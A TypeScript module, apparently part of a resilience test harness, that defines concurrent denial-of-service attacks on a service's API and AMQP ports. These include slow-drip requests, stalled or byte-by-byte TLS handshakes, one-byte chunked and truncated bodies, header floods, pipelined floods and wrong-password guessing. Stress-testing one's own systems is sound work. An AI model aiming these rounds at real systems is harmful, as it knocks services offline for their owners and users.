// The attacks.

import type { Socket } from 'node:net';
import { clientHello, closed, encrypted, plain, pour } from './sockets.ts';
import { plausibleHead, type Target } from './target.ts';
import { guess } from './wrong-passwords.ts';

/** One round of an attack on one connection; it is begun again as soon as it ends. */
export type Round = (target: Target, number: number) => Promise<void>;

/** An attack: its round, and how many of them go on at a time in each process. */
export interface Attack {
  readonly what: string;
  readonly concurrency: number;
  readonly round: Round;
}

const mib = 1024 * 1024;
const oneByteChunks = Buffer.from('1\r\nx\r\n'.repeat(2000));
const chunked = ['Transfer-Encoding: chunked'];
const form = 'application/x-www-form-urlencoded';
const unsigned = (headers: readonly string[]) =>
  ['POST / HTTP/1.1', 'Host: x', ...headers, '', ''].join('\r\n');

/** Sends a request on the API's port, and more of it until the connection ends. */
function ask(head: (target: Target) => string, piece: Buffer, times: number): Round {
  return async (target) => {
    const socket = encrypted(target, target.apiPort, (ready) => {
      ready.once('data', () => ready.destroy());
      ready.write(head(target));
      pour(ready, piece, times).catch(() => {});
    });
    await closed(socket);
  };
}

/** Sends a little, and then a little every two seconds until the connection ends. */
function drip(port: 'apiPort' | 'amqpPort', first: string, more: string): Round {
  return async (target) => {
    let timer: NodeJS.Timeout | undefined;
    const socket = encrypted(target, target[port], (ready) => {
      if (first !== '') ready.write(first);
      timer = setInterval(() => more !== '' && ready.write(more), 2000);
    });
    await closed(socket);
    clearInterval(timer);
  };
}

const longBody = [`Content-Length: ${mib}`];
let hello: Promise<Buffer> | undefined;

async function halfHandshake(target: Target, number: number): Promise<void> {
  hello ??= clientHello();
  const bytes = await hello;
  const socket = plain(target, number % 2 === 0 ? target.apiPort : target.amqpPort);
  socket.on('connect', () => socket.write(bytes));
  socket.resume();
  await closed(socket);
}

/** A handshake of which a byte comes each second. */
async function slowHandshake(target: Target, number: number): Promise<void> {
  hello ??= clientHello();
  const bytes = await hello;
  const socket = plain(target, number % 2 === 0 ? target.apiPort : target.amqpPort);
  let at = 0;
  const timer = setInterval(() => {
    if (at < bytes.length) socket.write(bytes.subarray(at, ++at));
  }, 1000);
  socket.resume();
  await closed(socket);
  clearInterval(timer);
}

async function silence(target: Target, number: number): Promise<void> {
  const socket: Socket = plain(target, number % 2 === 0 ? target.apiPort : target.amqpPort);
  socket.resume();
  await closed(socket);
}

/** Calls with a wrong signature, one after the other on the same connection. */
async function refusedCalls(target: Target): Promise<void> {
  const next = () => `${plausibleHead(target, ['Content-Length: 2'])}{}`;
  const socket = encrypted(target, target.apiPort, (ready) => {
    ready.on('data', () => ready.write(next()));
    ready.write(next());
  });
  await closed(socket);
}

const pipelined = Buffer.from('GET /health HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(1000));
const manyHeaders = Array.from({ length: 3000 }, (_, i) => `a${i % 10}:`);
const slowRounds: Round[] = [
  drip('apiPort', 'POST / HTTP/1.1\r\nHost: x\r\n', 'a: b\r\n'),
  drip('apiPort', 'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n', 'x'),
  drip('apiPort', '', ''),
  drip('apiPort', 'GET /health HTTP/1.1\r\nHost: x\r\n\r\n', ''),
  drip('amqpPort', '', ''),
  drip('amqpPort', 'AMQP', ''),
  drip('amqpPort', 'AMQP\0\0\x09\x01', ''),
];

/** By name. */
export const attacks: Readonly<Record<string, Attack>> = {
  chunks: {
    what: 'bodies of a mebibyte in chunks of one byte, not signed',
    concurrency: 18,
    round: ask(() => unsigned(chunked), oneByteChunks, 520),
  },
  'signed-chunks': {
    what: 'the same, under a head that looks signed',
    concurrency: 18,
    round: ask((target) => plausibleHead(target, chunked), oneByteChunks, 520),
  },
  bodies: {
    what: 'bodies of a mebibyte that stop before their end, under a head that looks signed',
    concurrency: 64,
    round: ask((target) => plausibleHead(target, longBody), Buffer.alloc(65_536, ' '), 15),
  },
  forms: {
    what: 'forms of half a million parameters, not signed and seemingly signed by turns',
    concurrency: 10,
    round: (target, number) =>
      ask(
        (of) =>
          number % 2 === 0
            ? unsigned([...longBody, `Content-Type: ${form}`])
            : plausibleHead(of, longBody, form),
        Buffer.from('&a'.repeat(32_768)),
        16,
      )(target, number),
  },
  slow: {
    what: 'requests and log-ins of which a byte comes every two seconds, or none',
    concurrency: 140,
    round: (target, number) => (slowRounds[number % slowRounds.length] as Round)(target, number),
  },
  silent: { what: 'connections that say nothing', concurrency: 1000, round: silence },
  'half-handshakes': {
    what: 'TLS handshakes that never go on',
    concurrency: 250,
    round: halfHandshake,
  },
  'slow-handshakes': {
    what: 'TLS handshakes of which a byte comes each second',
    concurrency: 250,
    round: slowHandshake,
  },
  headers: {
    what: 'requests of 3,000 headers, and of one header that does not end',
    concurrency: 16,
    round: (target, number) =>
      number % 2 === 0
        ? ask(() => unsigned(manyHeaders), Buffer.from('x'), 1)(target, number)
        : ask(
            () => 'GET / HTTP/1.1\r\nHost: x\r\nX: ',
            Buffer.alloc(65_536, 'x'),
            100,
          )(target, number),
  },
  pipelines: {
    what: 'a thousand requests in one write',
    concurrency: 8,
    round: ask(() => '', pipelined, 20),
  },
  'refused-calls': {
    what: 'calls with a wrong signature, each as soon as the one before is answered',
    concurrency: 50,
    round: refusedCalls,
  },
  guesses: {
    what: 'wrong passwords; three of four connections hang up before they are answered',
    concurrency: 50,
    round: guess,
  },
};
